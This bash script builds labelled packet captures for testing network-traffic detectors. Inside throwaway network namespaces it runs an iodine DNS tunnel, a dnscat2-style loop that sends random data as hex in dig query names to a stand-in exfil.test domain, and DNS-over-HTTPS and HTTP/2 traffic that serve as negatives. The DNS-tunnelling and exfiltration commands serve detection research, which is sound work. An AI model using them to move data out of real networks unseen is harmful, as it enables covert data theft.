#!/usr/bin/env bash
# Records traffic for the behaviour detectors' tests and benchmark
# (bench/detection_eval.py), made by real tools between two network
# namespaces joined by a veth pair, captured by tcpdump:
#
#   iodine.pcap      iodine (Debian's) client to iodined, forced through DNS
#                    (-r: no raw UDP), the tunnel then carrying pings and a
#                    64 KiB transfer
#   dig-exfil.pcap   a file sent as hex in query names by dig, dnscat2's
#                    way (hex labels, TXT, CNAME and MX), to dnsmasq
#   dig-ordinary.pcap  the same dig and dnsmasq asking ordinary names: the
#                    negative beside it
#   doh-unlisted.pcap  DNS over HTTPS (HTTP/2, TLS 1.3) to a server of our
#                    own (tests/tools/doh_peer.py) on a name and port no list
#                    has (resolver.private.test:8443); after each answer the
#                    client opens the site it resolved, as a browser does
#   h2-negatives.pcap  the same server as an ordinary site and an API, asked
#                    by curl over HTTP/2: pages of 2 to 50 kB, and a status
#                    URL polled 20 times on one connection (small requests,
#                    small responses: DoH's shape without DoH)
#
#   scripts/make-detection-captures.sh OUT_DIR
#
# Needs root, iodine, dnsmasq, dig, tcpdump, openssl, curl and python3-h2
# (scripts/install-deps.sh).
set -euo pipefail
out=${1:?usage: make-tunnel-captures.sh OUT_DIR}
mkdir -p "$out"
out=$(cd "$out" && pwd)
for tool in iodine iodined dnsmasq dig tcpdump ip openssl curl; do
  command -v "$tool" >/dev/null || { echo "make-detection-captures: $tool is missing (scripts/install-deps.sh)" >&2; exit 2; }
done
[ "$(id -u)" = 0 ] || { echo "make-detection-captures: needs root for network namespaces" >&2; exit 2; }

tag=dlt$$
client=${tag}c
server=${tag}s
work=$(mktemp -d)
cleanup() {
  for pidfile in "$work"/*.pid; do [ -f "$pidfile" ] && kill "$(cat "$pidfile")" 2>/dev/null || true; done
  sleep 0.3
  ip netns del "$client" 2>/dev/null || true
  ip netns del "$server" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
ip netns add "$client"
ip netns add "$server"
ip link add "${tag}a" netns "$client" type veth peer name "${tag}b" netns "$server"
ip -n "$client" addr add 10.77.0.1/24 dev "${tag}a"
ip -n "$server" addr add 10.77.0.2/24 dev "${tag}b"
for ns in "$client" "$server"; do
  ip -n "$ns" link set lo up
done
ip -n "$client" link set "${tag}a" up
ip -n "$server" link set "${tag}b" up

capture() {  # capture NAME [FILTER]: tcpdump on the client's side
  ip netns exec "$client" tcpdump -i "${tag}a" -w "$out/$1" -U -s 0 ${2:-udp port 53} 2>/dev/null &
  echo $! > "$work/tcpdump.pid"
  sleep 1
}
stop_capture() {
  sleep 0.5
  kill "$(cat "$work/tcpdump.pid")"
  wait "$(cat "$work/tcpdump.pid")" 2>/dev/null || true
  rm -f "$work/tcpdump.pid"
}

# iodine: the server's tunnel end 10.78.0.1, the domain t.tunnel.test.
capture iodine.pcap
ip netns exec "$server" iodined -f -c -P dnsleak-test -l 10.77.0.2 10.78.0.1/24 t.tunnel.test \
  >"$work/iodined.log" 2>&1 &
echo $! > "$work/iodined.pid"
sleep 1
ip netns exec "$client" timeout 60 iodine -f -r -P dnsleak-test 10.77.0.2 t.tunnel.test >"$work/iodine.log" 2>&1 &
echo $! > "$work/iodine.pid"
for _ in $(seq 1 150); do
  grep -q "Connection setup complete" "$work/iodine.log" && break
  sleep 0.2
done
if ! grep -q "Connection setup complete" "$work/iodine.log"; then
  echo "make-detection-captures: iodine did not bring its tunnel up" >&2
  cat "$work/iodine.log" >&2
  exit 1
fi
# 64 KiB up through the tunnel: what an exfiltrating tunnel carries.
head -c 65536 /dev/urandom > "$work/blob"
ip netns exec "$server" timeout 40 python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("10.78.0.1", 9000)); s.listen(1); c, _ = s.accept()
n = 0
while True:
    b = c.recv(65536)
    if not b: break
    n += len(b)
print(n)
' > "$work/received" &
receiver=$!
sleep 0.5
ip netns exec "$client" timeout 35 python3 -c '
import socket, sys
s = socket.create_connection(("10.78.0.1", 9000), timeout=30)
s.sendall(open(sys.argv[1], "rb").read()); s.shutdown(socket.SHUT_WR); s.recv(1); s.close()
' "$work/blob" || echo "make-detection-captures: the transfer through iodine failed" >&2
wait "$receiver" || true
echo "iodine carried $(cat "$work/received" 2>/dev/null || echo 0) bytes"
kill "$(cat "$work/iodine.pid")" "$(cat "$work/iodined.pid")" 2>/dev/null || true
stop_capture
if [ -n "${KEEP_LOGS:-}" ]; then cp "$work"/*.log "$KEEP_LOGS"/; fi

# dnsmasq answers every name under exfil.test and under example.test.
ip netns exec "$server" dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=10.77.0.2 --bind-interfaces \
  --address=/exfil.test/198.51.100.7 --address=/example.test/198.51.100.8 --pid-file="$work/dnsmasq.pidx" \
  >"$work/dnsmasq.log" 2>&1 &
echo $! > "$work/dnsmasq.pid"
sleep 0.5

# dnscat2's way: the data as hex, split in labels of up to 60, a sequence
# number, the session's domain; TXT, CNAME and MX in turn.
capture dig-exfil.pcap
head -c 6000 /dev/urandom | od -An -v -tx1 | tr -d ' \n' | fold -w 120 > "$work/chunks"
types=(TXT CNAME MX)
n=0
while read -r chunk; do
  name="${chunk:0:60}.${chunk:60}.$(printf %04x $n).dnscat.exfil.test"
  ip netns exec "$client" dig @10.77.0.2 +tries=1 +time=1 "$name" "${types[n % 3]}" >/dev/null || true
  n=$((n + 1))
done < "$work/chunks"
stop_capture

# The negative: ordinary names, some long, asked by the same tools.
capture dig-ordinary.pcap
for host in www mail api cdn static img login shop news blog docs assets media video auth portal \
    ec2-54-152-12-34.compute-1 r4---sn-4g5e6nsz d1a2b3c4d5e6f7.cloudfront a-0001.a-msedge \
    google._domainkey selector1._domainkey _dmarc 3a1f9c2e-5b7d-4e8a-9f01-23456789abcd.blob.core \
    prod-eu-west-1-frontend-loadbalancer-1234567890.elb; do
  for type in A AAAA TXT; do
    ip netns exec "$client" dig @10.77.0.2 +tries=1 +time=1 "$host.example.test" "$type" >/dev/null || true
  done
done
stop_capture
kill "$(cat "$work/dnsmasq.pid")" 2>/dev/null || true

# DoH to a server no list names, and the ordinary HTTP/2 beside it. The
# server also holds 10.79.0.0/24, where the client's resolved sites are.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/key.pem" -out "$work/cert.pem" -days 2 \
  -subj "/CN=resolver.private.test" >/dev/null 2>&1
ip -n "$client" route add 10.79.0.0/24 via 10.77.0.2
ip -n "$server" route add local 10.79.0.0/24 dev lo
peer=$(cd "$(dirname "$0")/.." && pwd)/tests/tools/doh_peer.py
ip netns exec "$server" /usr/bin/python3 "$peer" server 10.77.0.2 8443 "$work/cert.pem" "$work/key.pem" \
  >"$work/doh_server.log" 2>&1 &
echo $! > "$work/doh_server.pid"
for _ in $(seq 1 50); do grep -q listening "$work/doh_server.log" && break; sleep 0.1; done
capture doh-unlisted.pcap tcp
ip netns exec "$client" /usr/bin/python3 "$peer" client 10.77.0.2 8443 resolver.private.test \
  www.example.org mail.example.org news.example.net shop.example.com cdn.example.com api.example.io \
  login.example.com video.example.tv img.example.org static.example.net docs.example.dev blog.example.org \
  >"$work/doh_client.log"
stop_capture
capture h2-negatives.pcap tcp
pages=()
for size in 2000 8000 15000 30000 50000 4000 12000 25000; do
  pages+=(-o /dev/null "https://www.private.test:8443/page/$size")
done
ip netns exec "$client" curl -sk --http2 --resolve www.private.test:8443:10.77.0.2 --rate 4/s "${pages[@]}" || true
status=()
for n in $(seq 1 20); do status+=(-o /dev/null "https://api.private.test:8443/status?n=$n"); done
ip netns exec "$client" curl -sk --http2 --resolve api.private.test:8443:10.77.0.2 --rate 5/s "${status[@]}" || true
stop_capture
ls -l "$out"/iodine.pcap "$out"/dig-exfil.pcap "$out"/dig-ordinary.pcap "$out"/doh-unlisted.pcap "$out"/h2-negatives.pcap
